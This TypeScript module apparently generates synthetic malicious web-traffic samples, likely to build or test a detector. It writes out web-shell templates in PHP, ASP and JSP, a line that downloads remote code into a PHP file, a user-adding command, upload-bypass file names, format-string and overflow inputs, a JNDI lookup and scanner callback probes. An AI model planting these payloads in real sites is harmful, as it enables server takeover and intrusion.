/** Web shells, uploads of scripts, overflows and format strings, marks that scanners leave, other misuse of a field. */

import { grammar, lines, words } from "../lib/grammar.ts";
import type { Random } from "../lib/random.ts";
import { PHP } from "./code-php.ts";
import { SHELL } from "./shell.ts";

const RULES = grammar({
  ...SHELL,
  ...PHP,
  /** What is sent to a web shell, or written to become one. */
  webshell: lines`
    <?php «phpfn»($_«GET|POST|REQUEST|COOKIE»[«cmd|'«rnd2»'|"«rnd2»"|0»]); ?>
    <?php @eval($_POST['«rnd»']);?>
    <?php if(isset($_REQUEST['«v=rnd»'])){system($_REQUEST['«$v»']);die;}?>
    <?php file_put_contents('«rnd».php',file_get_contents('«url»'));?>
    <?=«bt»$_GET[«rnd2»]«bt»?>
    <?php echo '«rnd»';unlink(__FILE__);?>
    <?php move_uploaded_file($_FILES['«rnd»']['tmp_name'],$_FILES['«rnd»']['name']);?>
    <?php $«v=rnd2»=str_rot13('nffreg');$«$v»($_POST['«rnd»']);?>
    <?php /*«hex32»*/ $«rnd»="«base64»";eval(base64_decode($«rnd»));
    <%eval request("«rnd»")%>
    <%execute request("«rnd»")%>
    <%@ Page Language="Jscript"%><%eval(Request.Item["«rnd»"],"unsafe");%>
    <%Runtime.getRuntime().exec(request.getParameter("«rnd»"));%>
    <%if("«rnd»".equals(request.getParameter("pwd"))){java.io.InputStream in=Runtime.getRuntime().exec(request.getParameter("«letter»")).getInputStream();}%>
    <jsp:directive.page import="java.io.*"/>
    <cfexecute name="cmd.exe" arguments="/c #url.«rnd»#">
    GIF89a<?php «phpcall»;?>
    GIF89a;<?=$_GET[«digit»]($_POST[«digit»]);?>
    «unix»
    «unix»
    «win»
    «phpfn»('«look»');
    @ini_set("display_errors","0");@set_time_limit(0);«phpcall»;
    «v=rnd2»=@eval(base64_decode($_POST[z0]));&z0=«base64»
    QGluaV9zZXQ«base64»«base64»
    act=«cmd|ls|f|upload|selfremove|sql|eval|ps_aux|bind»&d=«/var/www|/tmp|c:\»
    a=«Php|FilesMan|Console|SecInfo|Sql|Bruteforce|SafeMode|Network»&c=/&p1=«look»
    echo «rnd»;«look»;pwd;echo «rnd»
    cd "/var/www/html";«look»;echo [S];pwd;echo [E]
    ../../«rnd».«php|jsp|aspx|asp|phtml»
    net user «rnd» «rnd» /add`,
  /** Names under which scripts are uploaded. */
  upload: lines`
    «shellname».«scriptext»
    «rnd».«scriptext».«scriptext»
    «name».«scriptext».«imgext»
    «name».«imgext».«scriptext»
    «name».«scriptext»%00.«imgext»
    «name».«scriptext»%20
    «name».«scriptext».
    «name».«scriptext»;.«imgext»
    «name».«scriptext»::$DATA
    «name».«scriptext»/
    «name».«scriptext»%0a
    «name».«scriptext»\x00.«imgext»
    «name».«scriptext»«nl»
    «name».«scriptext»#.«imgext»
    «name».«scriptext»....
    «name».«scriptext»_
    «name».p%68p
    ../«name».«scriptext»
    ../../«rnd»/«name».«scriptext»
    ..\..\«name».«scriptext»
    .htaccess
    .user.ini
    .htaccess%20
    web.config
    «name».«scriptext».«scriptext»
    «name».php.«rnd»
    "><script>alert(«int»)</script>.«imgext»
    sleep(«secs»)-- -.«imgext»
    ; sleep «secs»;.«imgext»
    $(«look»).«imgext»
    "«bt»«look»«bt»".«imgext»
    /var/www/html/«name».«scriptext»
    C:\inetpub\wwwroot\«name».«asp|aspx»
    /tmp/php«Rnd»
    «name».«shtml|stm|shtm»
    «name».svg" onload="alert(«int»)
    AddType application/x-httpd-php .«imgext»
    auto_prepend_file=«name».«imgext»`,
  name: [
    "«rnd»",
    "«shellname»",
    "shell",
    "cmd",
    "test",
    "«rnd»«small»",
    "«hex8»",
    "«rndmix»",
    "image",
    "avatar",
    "index",
    "«Rnd»",
    "x",
    "poc",
  ],
  shellname: [
    "c99",
    "r57",
    "wso",
    "b374k",
    "alfa",
    "alfanew",
    "shell",
    "cmd",
    "up",
    "upload",
    "backdoor",
    "webshell",
    "mini",
    "indoxploit",
    "0x",
    "1",
    "x",
    "adminer",
    "marijuana",
    "priv8",
    "anon",
    "gel4y",
    "leaf",
    "mailer",
    "FoxWSO",
    "bypass",
    "weevely",
    "antak",
    "chopper",
    "godzilla",
    "behinder",
    "fx29sh",
    "gaza",
    "simple-backdoor",
    "php-reverse-shell",
    "cmdasp",
    "jspshell",
    "laudanum",
  ],
  scriptext: [
    "php",
    "php",
    "php",
    "phtml",
    "php3",
    "php4",
    "php5",
    "php7",
    "phps",
    "pht",
    "phar",
    "inc",
    "asp",
    "aspx",
    "asa",
    "cer",
    "ashx",
    "asmx",
    "jsp",
    "jspx",
    "jspf",
    "jsw",
    "war",
    "cfm",
    "cfml",
    "pl",
    "cgi",
    "py",
    "sh",
    "pHp",
    "PhP5",
    "pHtml",
    "aSp",
    "exe",
    "bat",
    "shtml",
    "htaccess",
    "hta",
    "vbs",
    "pgif",
    "phpt",
    "module",
  ],
  imgext: ["jpg", "png", "gif", "jpeg", "txt", "pdf", "svg", "zip", "bmp", "csv", "doc"],

  overflow: [
    ["«longrun»", 8],
    ["«formatstring»", 8],
    ["«integer»", 0.7],
    ["«bytes»", 3],
    ["«nulls»", 1],
  ],
  longrun: (rng) => {
    const unit = rng.pick([
      "A",
      "A",
      "A",
      "A",
      "a",
      "B",
      "x",
      "1",
      "0",
      "AAAA",
      "%41",
      "ABCD",
      "/",
      ".",
      "-",
      "9",
      "X",
      "%90",
      "\\x90",
      "\\x41",
      "%u9090",
      "(",
      "[",
      "{",
      "<",
      "'",
      "Z",
      "%n",
      "Aa0",
      "/..",
      "&#65;",
      "q",
    ]);
    const length = rng.weighted([
      [rng.int(120, 400), 3],
      [rng.int(400, 1200), 3],
      [rng.int(1200, 3000), 1],
    ]);
    return (
      unit.repeat(Math.ceil(length / unit.length)) +
      rng.pick(["", "", "", "BBBB", "%00", "\\xef\\xbe\\xad\\xde", ".php", "%u9090%u6858"])
    );
  },
  formatstring: [
    "«conv*3-30»",
    "«conv*2-6»%n",
    "«rnd»«conv*2-12»",
    "%«int»$«x|n|p|hn|08x»",
    "%.«int»«d|x|f»«conv*1-5»",
    "%«s|n|x|p|d»%«s|n|x|p|d»%«s|n|x|p|d»%«s|n|x|p|d»",
    "%«big»d%n",
    "AAAA«conv*4-20»",
    "%«small»!s%«small»!s%«small»!s",
    "{0}{1}{2}{3}«braces*0-8»",
    "%@%@%@%@%@",
    "«conv»'«conv»\"«conv»",
    "%99999999999s",
    "XXXXX.%p.%p.%p.%p",
  ],
  conv: (rng) =>
    rng.pick([
      "%s",
      "%s",
      "%x",
      "%n",
      "%p",
      "%d",
      "%08x",
      "%08x.",
      "%x.",
      "%s.",
      "%p.",
      "%c",
      "%#x",
      "%5$s",
      "%hn",
      "%.2000d",
      "-%x",
      "%u",
    ]),
  braces: ["{«int»}", "{{«digit»}}", "{0:«letter»}"],
  integer: [
    "2147483648",
    "-2147483649",
    "4294967296",
    "18446744073709551616",
    "-9223372036854775809",
    "99999999999999999999999",
    "0x7fffffff",
    "0xffffffff",
    "-1e«int»",
    "1e309",
    "NaN%00",
    "9«nines»",
    "2.2250738585072011e-308",
    "0x80000000",
    "-0x80000001",
    "65536e«int»",
    "bytes=0-18446744073709551615",
    "bytes=-«big»,-«big»",
    "bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5",
  ],
  nines: (rng) => "9".repeat(rng.int(20, 60)),
  bytes: [
    "«rnd»%«letter»«letter»«rnd»%1G%7B%«Letter»«digit»",
    "%u«hex4»«rnd»%uff«hex2»%uff«hex2»",
    "%%«hex2»%%«hex2»«rnd»%",
    "%25%«hex2»%25%«hex2»",
    "\\«rnd»\\u«hex4»\\x«hex2»%«hex2»%00",
    "%u«hex4»%u«hex4»%u«hex4»%u«hex4»%u«hex4»%ucbd3%u7801",
    "\\x«hex2»\\x«hex2»\\x«hex2»\\x«hex2»\\x«hex2»\\x«hex2»",
    "%«hex2»%00%«hex2»%ff%fe%«hex2»%80",
    "\\u0000\\u«hex4»\\ud800«rnd»",
    "%ff%fe%fd%fc%«hex2»%«hex2»",
    "%c0%«hex2»%c1%«hex2»%f5%«hex2»",
    "\u0000\u0001\u0002\u0003«rnd»\u0007",
    "%90%90%90%90%90%90%90%90%31%c0%50%68",
  ],
  nulls: [
    "%00«rnd»",
    "«rnd»%00",
    "%00%00%00%00",
    "«rnd»\u0000«rnd»",
    "%00",
    "«rnd»%00«rnd»%00",
    "\\0\\0\\0«rnd»",
    "%2500«rnd»",
  ],

  /** How attack tools call themselves by default. */
  scanner: lines`
    «toolname»/«small».«digit»«|.«digit»|.«digit»#«stable|dev»»«| (http«|s»://«rnd».«org|io|com|net»)|»
    «toolname»«|/|/v| |-»«small».«digit»
    «toolname»
    Mozilla/5.00 («toolname»/«small».«digit».«digit») (Evasions:«None|«digit»») (Test:«int»«|«Rnd»»)
    Mozilla/5.0 (compatible; «toolname»«| «small».«digit»|/«small».«digit»|; «Rnd»/«small»»«|; http://«rnd».«com|org»»)
    Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; «toolname»)
    Mozilla/5.0 «toolname»/«small».«digit».«digit» (https://github.com/«rnd»/«rnd»)
    Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/«int».0.0.0 Safari/537.36 «toolname»«|/«small».«digit»»
    «toolname» «scanner|security scan|probe|vulnerability scan|web scanner|crawl|test|bot» «small».«digit»
    «toolname» (+http://«rnd».«com|net»/«rnd»)
    «nmap|Nmap» Scripting Engine«|; https://nmap.org/book/nse.html|; http://nmap.org/book/nse.html»`,
  // Surveyors of the Internet are none (surveyor.ts): who merely looks is no attacker, whatever he calls himself.
  toolname: words`
    sqlmap sqlmap sqlmap Nikto Nikto nikto nuclei Nuclei Acunetix acunetix-product WVS Nessus OpenVAS openvas wpscan WPScan DirBuster dirbuster gobuster feroxbuster ffuf Fuzz_Faster_U_Fool wfuzz Wfuzz Havij havij w3af.org w3af.sourceforge.net
    Arachni arachni Jaeles jaeles Netsparker netsparker Invicti Burp BurpSuite OWASP_ZAP ZAP zaproxy skipfish commix XSSer xsser XSStrike dalfox dirb dirsearch joomscan JoomScan CMSmap droopescan WhatWeb whatweb wapiti Wapiti hydra Hydra THC-Hydra medusa Brutus brutus patator
    ZmEu Morfeus morfeus_fucking_scanner muhstik Jorgee Paros paros WebInspect HP-WebInspect AppScan Rational QualysGuard Qualys Detectify Probely rapid7 InsightAppSec Nexpose Core-Impact core-project Metasploit metasploit meterpreter
    absinthe BSQLBF bsqlbf pangolin sqlninja sqlsus sqlbrute mysqloit sql_power_injector blindelephant blackwidow cgichk Whisker whisker Grabber grabber grendel-scan n-stealth N-Stealth nsauditor pmafind phpmyadmin-scan springenwerk
    webshag WebShag webvulnscan webtrends-security-analyzer whcc voideye toata_dragostea Toata_dragostea_mea uil2pn DataCha0s dominohunter dotdotpwn DotDotPwn fimap fhscan floodgate gootkit injection mole l9explore
    xray Goby goby TsunamiSecurityScanner tsunami-scanner rustbuster katana hakrawler gospider interactsh cgiscan nasl.nasl weevely slowloris slowhttptest loic hulk pyloris goldeneye xerxes torshammer Mozi Mirai Hello,World Hello_World LulzSec
    sysscan scanbot vulnscan bugscan pentestscan crowdsource-scan kxss gxss oralyzer cadaver davtest wafw00f`,

  /** What a scanner plants to see whether it comes back. */
  canary: lines`
    acu«int»«rnd»«lt»s1﹥s2ʺs3ʹuca«int»
    acux«int»%C0%BEz1%C0%BCz2a%90bcxuca«int»
    "+"A".concat(70-3).concat(22*4).concat(«int»).concat(«int»)+(require"socket"«nl»Socket.gethostbyname("«rndmix».bxss.me.")[3].to_s)+"
    ^(#$!@#$)(()))******
    !(()&&!|*|*|
    )))))))))))))))))
    '"()«rnd»
    «int»'"«rnd»
    @@«rndmix»
    12345'"\'\");|]*%00{%0d%0a<%00>%bf%27'💡
    \${«int4»«int4»+«int4»«int4»}
    \${9999«int»+9999«int»}
    <«Rnd»x<%={{={@{#{\${acx}}%>
    bfg«int»«lt»s1﹥s2ʺs3ʹhjl«int»
    bfgx«int»%C0%BEz1%C0%BCz2a%90bcxhjl«int»
    HttP://bxss.me/t/«xss.html?%00|fit.txt|rfi.txt»
    http://bxss.me/t/fit.txt%3F.jpg
    bxss.me/t/xss.html?%00
    response.write(«big»*«big»)
    file:///etc/passwd%00«rnd»
    -1 OR 2+«n=int»-«$n»-1=0+0+0+1 --
    1 waitfor delay '0:0:«secs»' --
    «rnd»'"\`><script>«rnd»</script>
    «rnd»"'></«rnd»><«rnd»>«int»
    wapiti«int»<'"«rnd»>
    w«rndmix»'"()<>
    nessus«int»<script>«rnd».nasl</script>
    <script>alert('«rnd»_«rnd».nasl-«big»')</script>
    vuln«int»%22%3E%3Cscript%3Ealert(«int»)%3C/script%3E
    openvas-«rnd»-«int»-test'"<>
    netsparker(0x00«hex4»)
    '"--></style></scRipt><scRipt>netsparker(0x«hex8»)</scRipt>
    ns:netsparker056650=vuln
    //r87.com/?«rnd».«php|jpg»
    http://«rndmix».r87.me/r/?id=«rnd»
    appscan«int»"'>><marquee>
    >"'><img%20src%3D%26%23x6a;%26%23x61;%26%23x76;«rnd»>
    /WEB-INF/web.xml?
    w3af«rnd»<!--#exec cmd="ls /"-->
    skipfish://invalid/;?
    -->">'>'"<sfi«int»v«int»>
    .htaccess.aspx-->">'>'"<sfi«int»v«int»>
    arachni_«rnd»_«hex32»<'"arachni>
    «hex32»'"\`<some_dangerous_input_«hex32»/>
    zaproxy«int»"<>'
    ZAP%n%s%n%s%n%s%n%s%n%s%n%s%n%s
    c:/Windows/system.ini«;|»
    5;URL='https://«big»«big».owasp.org'
    https://«big»«big»%2eowasp%2eorg
    http://«big»«big».owasp.org/?
    zApPX«int»sS<«rnd»>
    <!--#EXEC cmd="ls /"-->
    "><!--#EXEC cmd="dir \"-->
    \${@print(chr(122).chr(97).chr(112).chr(95).chr(116).chr(111).chr(107).chr(101).chr(110))}
    zj{%«int»*«int»%}zj
    zj#set($x=«int»*«int»)\${x}zj
    «int»<«Rnd»>«int»'"(){}[]
    qualys«int»<script>«rnd»</script>
    ="/><script>alert(«int»)</script>&XSS_«hex32»
    nikto«rnd»<script>«rnd»</script>
    /«rnd».«rnd2»/<script>alert('Vulnerable')</script>
    \${\${:::::::::::::::::-j}ndi:«rnd»}
    «rndmix»'))((«rnd»,"«rnd»
    «int».«int»",'.)(('..
    .)''((").«rnd»
    (,),.'"«rnd»«rnd»
    ""'"«Rnd»,,,)(.(`,
  lt: ["＜", "﹤", "<", "‹"],
});

/** Commands to a web shell, or code that makes one. */
export const webshell = (rng: Random) => RULES(rng, "webshell");
/** File names that become scripts. */
export const upload = (rng: Random) => RULES(rng, "upload");
/** Long runs, format strings, numbers past the edge, raw bytes. */
export const overflow = (rng: Random) => RULES(rng, "overflow");
/** Marks of scanners. */
export const canary = (rng: Random) => RULES(rng, "canary");
/** User agents of attack tools. */
export const scanner = (rng: Random) => RULES(rng, "scanner").replaceAll("_", " ");
